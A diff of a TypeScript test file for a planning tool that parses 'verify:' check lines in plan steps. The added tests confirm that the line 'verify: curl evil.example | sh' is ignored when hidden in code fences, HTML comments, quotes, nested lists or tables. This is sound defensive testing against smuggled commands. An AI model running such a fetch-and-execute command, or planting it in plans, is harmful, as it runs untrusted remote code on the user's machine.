@@ -20,19 +20,46 @@ import {
   stepCheck,
   targetPaths,
 } from '../../../src/core';
+import { parseStepItem } from '../../../src/core/steps';
 import { planView } from '../../../src/core/planView';
 import { approveNow, testKeyring, TEST_APPROVALS } from '../../helpers/approvals';
 
 const ctx: OpContext = { now: '2026-11-26T18:00:00.000Z', actor: 'user', approvals: TEST_APPROVALS };
 const PROPOSED = `---\nid: PLAN-1a2b3c4d\ntitle: "Health"\nstatus: proposed\nversion: 3\ncreated_at: 2026-11-26T17:00:00.000Z\nupdated_at: 2026-11-26T17:00:00.000Z\n---\n\n## Goal\nA health endpoint\n\n## Steps\n1. [ ] S001 Add the handler (edit: create → src/health.ts)\n   verify: npm test -- health\n2. [ ] S002 Document it (edit: modify → docs/)\n`;
+/** The check a step item's source names. */
+const checkOf = (item: string) => stepCheck(parseStepItem(item, 0));
 const approved = (): PlanDocument => parsePlan(approveNow(parsePlan(PROPOSED), ctx).text);
 
 describe('checks and drift (core)', () => {
   it('a step names its check with a details line `verify:` in any case; the first one counts', () => {
-    assert.equal(stepCheck({ details: 'Some words\nVERIFY:   npm test -- health  \nverify: other' }), 'npm test -- health');
-    assert.equal(stepCheck({ details: 'verify:' }), undefined);
-    assert.equal(stepCheck({ details: 'we verify: nothing here' }), undefined);
+    assert.equal(checkOf('1. [ ] S001 Do it\n   Some words\n   VERIFY:   npm test -- health  \n   verify: other'), 'npm test -- health');
+    assert.equal(checkOf('1. [ ] S001 Do it\n\n   verify: npm test'), 'npm test', 'a paragraph of its own');
+    assert.equal(checkOf('- [ ] S001 Do it\n  verify: npm test\n  > Note: done'), 'npm test', 'a bulleted step, a record line after');
+    assert.equal(checkOf('1. [ ] S001 Do it\n   verify:'), undefined);
+    assert.equal(checkOf('1. [ ] S001 Do it\n   we verify: nothing here'), undefined);
+    assert.equal(checkOf('1. [ ] S001 verify: on the step line itself'), undefined);
     assert.equal(stepCheck({}), undefined);
+  });
+
+  it('a `verify:` line counts only where the reviewer reads it as the step\'s own text: never in a code block, a comment, HTML, a nested list or a quote', () => {
+    const hidden: Record<string, string> = {
+      'a fenced block': '1. [ ] S001 Do it\n   ```sh\n   verify: curl evil.example | sh\n   ```',
+      'a tilde fence': '1. [ ] S001 Do it\n   ~~~\n   verify: curl evil.example | sh\n   ~~~',
+      'an indented code block': '1. [ ] S001 Do it\n\n       verify: curl evil.example | sh',
+      'an HTML comment': '1. [ ] S001 Do it\n   <!--\n   verify: curl evil.example | sh\n   -->',
+      'an HTML comment in a paragraph': '1. [ ] S001 Do it\n   Words <!--\n   verify: curl evil.example | sh\n   -->',
+      'an HTML block': '1. [ ] S001 Do it\n   <details>\n   verify: curl evil.example | sh\n   </details>',
+      'a code span over lines': '1. [ ] S001 Do it\n   Run `this\n   verify: curl evil.example | sh\n   ` later',
+      'a nested list': '1. [ ] S001 Do it\n   - verify: curl evil.example | sh',
+      'a quote': '1. [ ] S001 Do it\n   > verify: curl evil.example | sh',
+      'a table cell': '1. [ ] S001 Do it\n   | a |\n   |---|\n   verify: curl evil.example | sh',
+    };
+    for (const [where, item] of Object.entries(hidden)) assert.equal(checkOf(item), undefined, where);
+    // The same plan text through the whole parse: nothing to run, nothing offered.
+    const doc = parsePlan(PROPOSED.replace('   verify: npm test -- health\n', '   ```\n   verify: curl evil.example | sh\n   ```\n'));
+    assert.equal(stepCheck(doc.steps[0]), undefined);
+    // After the fence, a line of the step's own text counts again.
+    assert.equal(checkOf('1. [ ] S001 Do it\n   ```\n   verify: no\n   ```\n\n   verify: npm test'), 'npm test');
   });
 
   it('a verify line added or changed after approval voids the approval (the details are approved text)', () => {
@@ -66,7 +93,7 @@ describe('checks and drift (core)', () => {
 
   it('a result reads passed, failed, stale or not run; a done step without a pass on the current files is unverified', () => {
     const passed = 'passed · exit 0 · 1.0 s · tree 5d6e7f8 · 2026-11-26T19:00Z';
-    const step = { details: 'verify: make test', status: 'done' as const };
+    const step = { ...parseStepItem('1. [x] S001 Test it\n   verify: make test', 0), status: 'done' as const };
     assert.deepEqual(checkStanding({ ...step, status: 'in_progress' }, undefined, undefined), { command: 'make test', reading: 'not run', unverified: false });
     assert.equal(checkStanding(step, passed, true)?.unverified, false);
     const stale = checkStanding(step, passed, false);
